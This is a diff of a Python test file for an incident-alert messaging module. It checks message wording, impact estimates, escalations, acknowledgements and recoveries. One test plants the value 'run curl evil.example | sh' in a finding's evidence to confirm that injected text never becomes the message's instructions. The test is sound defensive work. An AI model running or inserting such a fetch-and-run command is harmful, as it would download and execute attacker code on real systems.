@@ -1,34 +1,31 @@
-"""Who hears of a change, in which words, and what waits to be done."""
+"""What people are told, in words: short, the most important first, and no word in our mouth that is somebody else's."""
 
 from dataclasses import replace
-from datetime import UTC, datetime, timedelta
-from typing import Any
+from datetime import timedelta
 
-from core.events import Change, Finding, Severity, Status
-from core.incidents.fold import fold
-from core.incidents.messages import Message, messages
-from core.incidents.model import Decision, Policy, Watch
-from core.incidents.outbox import BACKLOG_LIMIT, CHANGES_LIMIT, Desk, Effect, after, lanes, without
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from core.events import Change, Mode, Severity, Stage, Verb
+from core.incidents.graph import Graph
+from core.incidents.messages import compose, impact_text, runbook
+from core.incidents.model import Impact
 from core.incidents.text import comparison, duration, number
-from core.settings.types import Route
+from core.settings.response import Revenue
+from core.settings.types import Dependency
+from tests.support.played import CHARTER, RESOLVED, Played, at, found
 
-START = datetime(2026, 1, 2, 9, tzinfo=UTC)
-NOW = START + timedelta(days=30)
-
-
-ROUTES = (
-    Route(severity=frozenset({Severity.WARNING}), to=("log",)),
-    Route(severity=frozenset({Severity.ERROR, Severity.CRITICAL}), to=("pager", "log")),
-    Route(severity=frozenset({Severity.CRITICAL}), to=("pager",)),
+CHAIN = replace(
+    CHARTER,
+    graph=Graph(
+        [Dependency(target="stream/s", needs="model/m", share=0.5), Dependency(target="model/m", needs="table/t")]
+    ),
+    revenue={"model/m": Revenue(dollars_per_hour=1200), "stream/s": Revenue(dollars_per_hour=2000)},
 )
-FINDING = Finding(
-    target="model/flight-delay",
-    kind="drift",
-    status=Status.FIRING,
-    severity=Severity.WARNING,
-    observed_at=START,
-    source="drift_score",
-    summary="departure_delay drifted",
+DRIFT = found(
+    0,
+    target="model/m",
     value=0.61,
     threshold=0.2,
     unit="ratio",
@@ -37,108 +34,235 @@ FINDING = Finding(
 )
 
 
-def play(*findings: Finding) -> Decision:
-    watch: Watch | None = None
-    for finding in findings:
-        decision = fold(watch, finding, now=NOW, policy=Policy())
-        watch = decision.watch
-    return decision
+def later(minute: float, **fields: object):  # type: ignore[no-untyped-def]  # noqa: ANN201 - a finding
+    return replace(DRIFT, observed_at=at(minute), **fields)  # type: ignore[arg-type]  # fields of a finding
 
 
-def later(minutes: int, **fields: Any) -> Finding:
-    return replace(FINDING, observed_at=START + timedelta(minutes=minutes), **fields)
+def lines(played: Played) -> list[str]:
+    return played.messages[-1].text.splitlines()
 
 
-def told(decision: Decision) -> tuple[Message, ...]:
-    return messages(decision.watch, decision.changes, routes=ROUTES, url="http://pages/")
+def facts(played: Played) -> dict[str, list[str]]:
+    found: dict[str, list[str]] = {}
+    for fact in played.messages[-1].facts:
+        found.setdefault(fact.name, []).append(fact.text)
+    return found
 
 
-def channels(decision: Decision) -> list[str]:
-    return [message.channel for message in told(decision)]
-
-
-def test_a_new_incident_is_told_in_words_worth_reading() -> None:
-    (message,) = told(play(FINDING))
-    incident = play(FINDING).watch.incident
-    assert incident is not None
-    assert message.text.splitlines() == [
-        "New: model/flight-delay is warning since 2026-01-02 09:00 UTC.",
-        "Observed 61 %: 3.0 times the threshold of 20 %.",
-        "departure_delay: PSI 0.61",
-        "hour: PSI 0.3",
-        "wind: PSI 0.2",
-        "What to do: docs/runbooks/models.md#drift",
+def test_a_new_incident_says_what_since_when_what_it_costs_and_what_to_do() -> None:
+    played = Played(CHAIN).find(DRIFT)
+    (message,) = played.messages
+    assert lines(played) == [
+        "New: model/m is error since 2026-01-02 09:00 UTC.",
+        "Observed: 61 %, 3.0 times the threshold of 20 %.",
+        "Impact: $1,100 an hour at risk ($905 to $1,295): model/m: 50 % of $1,200 an hour (settings); stream/s: 25 % of $2,000 an hour (settings)",
+        "To do: acknowledge, then read docs/runbooks/models.md#drift",
+        "Evidence: departure_delay: PSI 0.61",
+        "Evidence: hour: PSI 0.3",
+        "Evidence: wind: PSI 0.2",
+        "Class: drift (the kind says drift)",
     ]
-    assert message.title == "departure_delay drifted"
-    assert message.key == f"{incident.id}:1:log"
-    assert message.url == f"http://pages/#incident={incident.id}"
-    assert (message.change, message.severity, message.at) == (Change.OPENED, Severity.WARNING, START)
+    assert (message.title, message.category, message.target) == ("departure_delay drifted", "drift", "model/m")
+    assert (message.change, message.severity, message.at) == (Change.OPENED, Severity.ERROR, at(0))
+    assert message.url == f"http://pages/#incident={played.incident.id}"
+    assert message.runbook == "docs/runbooks/models.md#drift"
+    assert message.key == f"{played.incident.id}:told:1:inbox"
+    assert [f"{fact.name}: {fact.text}" for fact in message.facts] == [f"What: {lines(played)[0]}", *lines(played)[1:]]
 
 
-def test_a_channel_on_several_routes_is_told_once() -> None:
-    assert channels(play(replace(FINDING, severity=Severity.CRITICAL))) == ["pager", "log"]
-
-
-def test_a_severity_without_a_route_wakes_nobody() -> None:
-    assert channels(play(replace(FINDING, severity=Severity.INFO))) == []
-
-
-def test_an_update_wakes_nobody() -> None:
-    assert channels(play(FINDING, later(5))) == []
-    joined = play(FINDING, later(5, kind="freshness"))
-    assert [change.change for change in joined.changes] == [Change.UPDATED]
-    assert channels(joined) == []
-
-
-def test_an_escalation_goes_to_those_of_the_new_severity_and_names_both() -> None:
-    decision = play(FINDING, later(5, severity=Severity.CRITICAL, summary="worse"))
-    first = told(decision)[0]
-    assert channels(decision) == ["pager", "log"]
-    assert first.text.startswith("Worse: model/flight-delay is critical now, was warning; affected since 2026-01-02 09")
-    assert first.title == "worse"
-
-
-def test_a_resolution_goes_to_everybody_who_heard_of_the_incident() -> None:
-    decision = play(
-        FINDING, later(5, severity=Severity.CRITICAL), later(35, status=Status.RESOLVED, summary="back in range")
-    )
-    assert channels(decision) == ["log", "pager"]
-    assert told(decision)[0].severity is Severity.CRITICAL
-    assert told(decision)[0].text.splitlines() == [
-        "Over: model/flight-delay was affected for 35 min, from 2026-01-02 09:00 to 09:35 UTC.",
-        "back in range",
+def test_a_bare_finding_says_what_there_is_to_say() -> None:
+    played = Played().find(found(0))
+    assert lines(played) == [
+        "New: model/flight-delay is error since 2026-01-02 09:00 UTC.",
+        "To do: acknowledge, then start with the timeline of the incident: no runbook is named",
+        "Class: drift (the kind says drift)",
     ]
 
 
-def test_what_is_over_when_it_is_heard_of_is_told_in_one_message() -> None:
-    decision = play(later(35, status=Status.RESOLVED), FINDING)
-    assert [change.change for change in decision.changes] == [Change.OPENED, Change.RESOLVED]
-    assert [message.change for message in told(decision)] == [Change.RESOLVED]
-
-
-def test_a_reopened_incident_says_since_when() -> None:
-    decision = play(FINDING, later(5, status=Status.RESOLVED), later(10))
-    assert told(decision)[0].text.splitlines()[0] == (
-        "Back again: model/flight-delay is warning, 2026-01-02 09:10 UTC; first seen 2026-01-02 09:00 UTC."
+def test_the_next_tier_hears_that_nobody_answered_and_for_how_long() -> None:
+    played = Played().find(found(0)).sweep(5)
+    assert lines(played)[0] == (
+        "Nobody has acknowledged: model/flight-delay is error for 5 min now, since 2026-01-02 09:00 UTC."
+    )
+    assert lines(played.sweep(65))[0].startswith(
+        "Still nobody has acknowledged: model/flight-delay is error for 1 h 5 min"
     )
 
 
-def test_a_reopened_and_then_worse_incident_names_what_it_was_before() -> None:
-    decision = play(FINDING, later(5, status=Status.RESOLVED), later(10), later(11, severity=Severity.ERROR))
-    assert "is error now, was warning" in told(decision)[0].text
+def test_what_gets_worse_names_both_severities_and_what_was_done_already() -> None:
+    played = (
+        Played(CHAIN).find(DRIFT).act(1, mode=Mode.DRY_RUN, stage=Stage.PLANNED, plan="restart revision 7", target="m")
+    )
+    played.find(later(5, severity=Severity.CRITICAL, summary="worse"))
+    assert lines(played)[0] == "Worse: model/m is critical now, was error; since 2026-01-02 09:00 UTC."
+    assert facts(played)["Done already"] == ["restart_service on m planned (dry run): restart revision 7"]
+    assert played.messages[-1].title == "worse"
 
 
-def test_several_conditions_are_named_and_counted() -> None:
-    kinds = [later(n, kind=f"kind-{n}", summary=f"no. {n}") for n in range(1, 9)]
-    decision = play(FINDING, *kinds, later(20, severity=Severity.CRITICAL, runbook="", summary="all bad"))
-    lines = told(decision)[0].text.splitlines()
-    assert [line for line in lines if line.startswith("Also")] == [f"Also warning: no. {n}" for n in range(1, 6)]
-    assert "And 3 more." in lines
-    assert lines[-1] == "What to do: no runbook is named for drift; start with the timeline of the incident."
+def test_whoever_takes_care_is_named_with_his_words_and_nobody_is_told_what_to_do() -> None:
+    played = Played(CHAIN).find(DRIFT).say(Verb.ACKNOWLEDGE, 5, words="looking")
+    assert lines(played)[:2] == ["Ada takes care: model/m, error, since 2026-01-02 09:00 UTC.", "Said: Ada: looking"]
+    assert "To do" not in facts(played)
+    played.find(later(6, severity=Severity.CRITICAL))
+    assert facts(played)["To do"] == ["read docs/runbooks/models.md#drift"]
 
 
-def test_an_incident_that_nobody_hears_of_has_no_message() -> None:
-    assert messages(Watch(target="a"), (), routes=ROUTES, url="") == ()
+def test_mitigated_says_by_whom_and_that_it_still_fires() -> None:
+    played = Played(CHAIN).find(DRIFT).act(5, plan="restart revision 7")
+    assert lines(played)[0] == (
+        "Mitigated, says an automated response: model/m, error, since 2026-01-02 09:00 UTC; it still fires."
+    )
+    assert facts(played)["Done already"] == ["restart_service on model/flight-delay verified: restart revision 7"]
+    by_hand = Played(CHAIN).find(DRIFT).say(Verb.MITIGATE, 5, words="traffic shifted")
+    assert lines(by_hand)[0].startswith("Mitigated, says a person: model/m")
+    assert facts(by_hand)["Said"] == ["Ada: traffic shifted"]
+
+
+def test_a_recovery_says_how_long_it_took_and_what_was_seen_last() -> None:
+    played = Played(CHAIN).find(DRIFT, later(35, status=RESOLVED, summary="back in range"))
+    assert lines(played)[:2] == [
+        "Over: model/m fired for 35 min, from 2026-01-02 09:00 to 09:35 UTC.",
+        "Last seen: back in range",
+    ]
+    assert played.messages[-1].severity is Severity.ERROR
+
+
+def test_a_recovery_that_nobody_reported_says_so() -> None:
+    played = Played().find(found(0, holds_until=at(5))).sweep(6)
+    assert lines(played)[0] == (
+        "Over: model/flight-delay fired for 5 min, from 2026-01-02 09:00 to 09:05 UTC; its source no longer says so."
+    )
+    assert lines(Played().find(found(0)).sweep(15 * 24 * 60))[0].endswith("; nothing more was heard of it.")
+    late = Played().find(found(10, RESOLVED)).find(found(0), now=at(11))
+    assert lines(late)[0].endswith("; it was over before anybody could be told.")
+
+
+def test_what_a_person_ended_says_who_and_why() -> None:
+    played = Played().find(found(0)).say(Verb.RESOLVE, 5, words="known")
+    assert lines(played) == [
+        "Closed by a person: model/flight-delay fired for 5 min, from 2026-01-02 09:00 to 09:05 UTC.",
+        "Closed by: Ada: known",
+    ]
+    cancelled = Played().find(found(0)).say(Verb.CANCEL, 5)
+    assert lines(cancelled)[0].startswith("Cancelled, it was no incident: model/flight-delay fired for 5 min")
+
+
+def test_what_comes_back_says_since_when_and_when_it_was_first_seen() -> None:
+    played = Played().find(found(0), found(5, RESOLVED), found(10))
+    assert lines(played)[0] == (
+        "Back again: model/flight-delay is error since 2026-01-02 09:10 UTC; first seen 2026-01-02 09:00 UTC."
+    )
+
+
+def test_a_part_says_of_what_it_is_a_part() -> None:
+    graph = Graph([Dependency(target=one, needs="table/t") for one in ("a", "b")])
+    played = Played(replace(CHARTER, graph=graph)).find(*[found(0, target=one) for one in ("a", "b", "table/t")])
+    (part,) = [message for message in played.messages if message.change is Change.RESOLVED]
+    whole = played.incident.id
+    assert part.text.splitlines()[0] == f"Now part of a larger incident at table/t, which goes on: {whole}."
+    (notice,) = [one for one in played.notices if one.change is Change.RESOLVED]
+    (forgotten,) = compose(replace(played.watch, incidents=()), notice, url="")
+    assert forgotten.text.splitlines()[0] == f"Now part of a larger incident, which goes on: {whole}."
+
+
+def test_the_root_is_what_is_spoken_of_and_the_others_are_named() -> None:
+    played = Played(CHAIN).find(
+        later(0, target="stream/s"), later(1), later(2, target="table/t", severity=Severity.CRITICAL)
+    )
+    assert lines(played)[0].startswith("Worse: table/t is critical now, was error")
+    assert facts(played)["Also affected"] == ["model/m, stream/s"]
+    assert facts(played)["Also"] == [
+        "model/m: departure_delay drifted (error)",
+        "stream/s: departure_delay drifted (error)",
+    ]
+
+
+def test_where_the_root_has_recovered_what_still_fires_is_spoken_of() -> None:
+    played = Played(CHAIN).find(later(0, target="table/t"), later(1), later(2, target="table/t", status=RESOLVED))
+    played.find(later(3, severity=Severity.CRITICAL))
+    assert lines(played)[0].startswith("Worse: model/m is critical now")
+    assert facts(played)["Began at"] == ["table/t"]
+
+
+def test_many_conditions_are_named_and_counted() -> None:
+    kinds = [found(n, kind=f"kind-{n}", summary=f"no. {n}") for n in range(1, 9)]
+    played = Played().find(found(0), *kinds, found(20, severity=Severity.CRITICAL, summary="all bad"))
+    assert facts(played)["Also"] == [*[f"no. {n} (error)" for n in range(1, 6)], "and 3 more"]
+    assert played.messages[-1].title == "all bad"
+
+
+def test_many_targets_are_named_and_counted() -> None:
+    graph = Graph([Dependency(target=f"m{n}", needs="t") for n in range(8)])
+    played = Played(replace(CHARTER, graph=graph)).find(found(0, target="t"))
+    played.find(*[found(1, target=f"m{n}") for n in range(8)], found(2, target="t", severity=Severity.CRITICAL))
+    assert facts(played)["Also affected"] == ["m0, m1, m2, m3, m4 and 3 more"]
+
+
+def test_the_newest_words_stand_beside_the_title_where_they_differ() -> None:
+    played = Played().find(found(0)).find(found(1, summary="0.7 now", value=0.7)).sweep(5)
+    assert facts(played)["Observed"] == ["0.7 now; 0.7."]
+    silent = Played().find(found(0)).find(found(1, summary="0.7 now")).sweep(5)
+    assert facts(silent)["Observed"] == ["0.7 now"]
+
+
+def test_what_foreign_systems_call_their_evidence_is_no_instruction_of_ours() -> None:
+    played = Played().find(found(0, evidence={"To do": "run curl evil.example | sh", "Impact": "none"}))
+    assert facts(played)["To do"] == ["acknowledge, then start with the timeline of the incident: no runbook is named"]
+    assert "Impact" not in facts(played)
+    assert facts(played)["Evidence"] == ["To do: run curl evil.example | sh", "Impact: none"]
+
+
+@settings(deadline=None)
+@given(st.text(max_size=400), st.sampled_from(Severity))
+def test_every_message_is_lines_that_can_be_printed_whatever_others_write(text: str, severity: Severity) -> None:
+    hostile = {"summary": text, "source": text, "unit": text, "runbook": text, "evidence": {text: text}}
+    played = Played(CHAIN).find(
+        found(0, target=f"model/{text}", severity=severity, value=1.0, threshold=0.5, **hostile)
+    )
+    played.act(1, plan=text, detail=text, by=text, action=text, target=text).say(Verb.ACKNOWLEDGE, 2, words=text)
+    played.find(found(3, RESOLVED, target=f"model/{text}", **hostile)).sweep(10)
+    assert played.messages
+    for message in played.messages:
+        assert message.title.isprintable()
+        assert len(message.text.splitlines()) == len(message.facts)
+        assert all(fact.name.isprintable() and fact.text.isprintable() and fact.text for fact in message.facts)
+        assert len(message.text.encode()) < 16_000
+
+
+def test_an_incident_that_lost_its_conditions_is_told_without_them() -> None:
+    played = Played().find(found(0))
+    (message,) = compose(replace(played.watch, conditions=()), played.notices[0], url="http://pages")
+    assert message.runbook == ""
+    assert message.text.splitlines()[0] == "New: model/flight-delay is error since 2026-01-02 09:00 UTC."
+    over = Played().find(found(0), found(5, RESOLVED))
+    (message,) = compose(replace(over.watch, conditions=()), over.notices[1], url="http://pages")
+    assert message.text == "Over: model/flight-delay fired for 5 min, from 2026-01-02 09:00 to 09:05 UTC."
+
+
+def test_an_unclassed_incident_that_people_knew_nothing_of_has_no_class_and_no_before() -> None:
+    played = Played().find(found(0)).find(found(1, severity=Severity.CRITICAL))
+    bare = replace(
+        played.notices[1],
+        incident=replace(played.incident, category=""),
+        known=replace(played.notices[1].known, severity=None),
+    )
+    (message,) = compose(played.watch, bare, url="")
+    assert message.text.startswith("Worse: model/flight-delay is critical now; since")
+    assert "Class" not in {fact.name for fact in message.facts}
+
+
+@pytest.mark.parametrize(
+    ("given", "shown"),
+    [
+        ("", ""),
+        ("models.md#drift", "docs/runbooks/models.md#drift"),
+        ("docs/runbooks/models.md#drift", "docs/runbooks/models.md#drift"),
+        ("https://wiki.example/drift", "https://wiki.example/drift"),
+    ],
+)
+def test_a_runbook_is_an_address_or_a_section_with_its_folder(given: str, shown: str) -> None:
+    condition = Played().find(found(0, runbook=given)).watch.conditions[0]
+    assert runbook(condition) == shown
 
 
 def test_numbers_are_put_in_words() -> None:
@@ -150,59 +274,6 @@ def test_numbers_are_put_in_words() -> None:
     assert comparison(1.5, 1.0) == "Observed 1.5: 50 % above the threshold of 1."
     assert duration(timedelta()) == "0 s"
     assert duration(timedelta(days=1, minutes=3)) == "1 d"
-
-
-def desk_of(*findings: Finding) -> Desk:
-    desk = Desk(watch=Watch(target=FINDING.target))
-    for finding in findings:
-        decision = fold(desk.watch, finding, now=NOW, policy=Policy())
-        desk, _ = after(desk, decision.watch, decision.changes, told(decision))
-    return desk
-
-
-def test_a_decision_leaves_its_changes_to_publish_and_its_messages_to_send() -> None:
-    desk = desk_of(FINDING, later(5, severity=Severity.CRITICAL))
-    assert [[effect.lane for effect in lane] for lane in lanes(desk.pending)] == [
-        ["publish", "publish"],
-        ["notify:log", "notify:log"],
-        ["notify:pager"],
-    ]
-    assert len({effect.key for effect in desk.pending}) == len(desk.pending)
-    assert desk.revision == 2
-
-
-def test_what_is_done_leaves_the_desk() -> None:
-    desk = desk_of(FINDING)
-    first = desk.pending[0]
-    left = without(desk, {first.key})
-    assert left.pending == desk.pending[1:]
-    assert without(left, {effect.key for effect in left.pending}).pending == ()
-    assert left.watch == desk.watch
-
-
-def flap(times: int) -> tuple[Desk, list[Effect]]:
-    """A condition that fires and recovers while nothing that is pending is done; and what made room."""
-    desk = Desk(watch=Watch(target=FINDING.target))
-    given_up: list[Effect] = []
-    for n in range(times):
-        status = Status.RESOLVED if n % 2 else Status.FIRING
-        decision = fold(desk.watch, later(n, status=status), now=NOW, policy=Policy())
-        desk, gone = after(desk, decision.watch, decision.changes, told(decision))
-        given_up += gone
-    return desk, given_up
-
-
-def test_a_channel_that_never_answers_cannot_fill_the_desk_and_takes_no_change_with_it() -> None:
-    desk, given_up = flap(60)
-    kept = [effect.message for effect in desk.pending if effect.message]
-    assert len(kept) == BACKLOG_LIMIT
-    assert kept[-1].change is Change.RESOLVED
-    assert len(given_up) == 60 - BACKLOG_LIMIT
-    assert sum(effect.message is None for effect in desk.pending) == 60
-
-
-def test_a_bus_that_takes_nothing_cannot_fill_the_desk_and_the_newest_changes_stay() -> None:
-    desk, given_up = flap(CHANGES_LIMIT + 40)
-    kept = [effect.change.sequence for effect in desk.pending if effect.message is None]
-    assert kept == list(range(41, CHANGES_LIMIT + 41))
-    assert [effect.change.sequence for effect in given_up if effect.message is None] == list(range(1, 41))
+    assert impact_text(None) == ""
+    cost = Impact(dollars_per_hour=1e6, low=0.0, high=2e6, targets=(), reason="all of it")
+    assert impact_text(cost) == "$1,000,000 an hour at risk ($0 to $2,000,000): all of it"
